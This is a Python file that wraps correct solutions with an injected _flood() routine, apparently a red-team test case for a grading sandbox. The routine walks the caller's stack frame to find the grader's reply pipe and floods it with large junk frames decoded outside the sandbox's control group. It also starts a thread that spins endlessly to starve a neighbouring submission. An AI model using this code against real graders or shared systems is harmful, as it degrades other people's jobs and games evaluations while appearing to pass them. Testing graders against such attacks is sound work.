"""Every function is right, but each call first writes up to 40 stray 1 MB replies of 29,000 tiny arrays to the reply pipe (found through the caller's frame): the grader, outside every control group, spends ~0.2 s of its own CPU decoding each before the real answer, while a thread burns the sandbox's core: full points, minutes of grading, and a neighbour graded beside it slowed."""
KIND = "neighbour"
LIMIT = 300
DELAY = 3.0
_FLOOD = r'''import sys
import threading
import time

_stray = {}

def _burn():
    while True:
        pass

def _flood(seconds=3.5, most=40):
    frame = sys._getframe(2)
    if frame.f_code.co_name != "op_call":
        return  # called by the student's own code, not by the grader
    worker = frame.f_locals.get("self")
    wire = sys.modules.get("wire")
    if worker is None or wire is None:
        return
    if "frame" not in _stray:
        _stray["frame"] = wire.frame(wire.encode([np.zeros(1)] * 29000))
        threading.Thread(target=_burn, daemon=True).start()
    ends = time.monotonic() + seconds
    for _ in range(most):
        if time.monotonic() > ends:
            break
        data = _stray["frame"]
        while data:
            data = data[os.write(worker.replies, data):]'''

import pathlib as _p, importlib.util as _u
_spec = _u.spec_from_file_location("_base", _p.Path(__file__).with_name("_base.py"))
_base = _u.module_from_spec(_spec)
_spec.loader.exec_module(_base)


def _flooding(source):
    head, _, body = source.partition(":\n")
    return "import os\n\n" + head + ":\n    _flood()\n" + body


CELLS = {name: _flooding(source) for name, source in _base.SOLUTIONS.items()}
EXTRA = [_FLOOD]
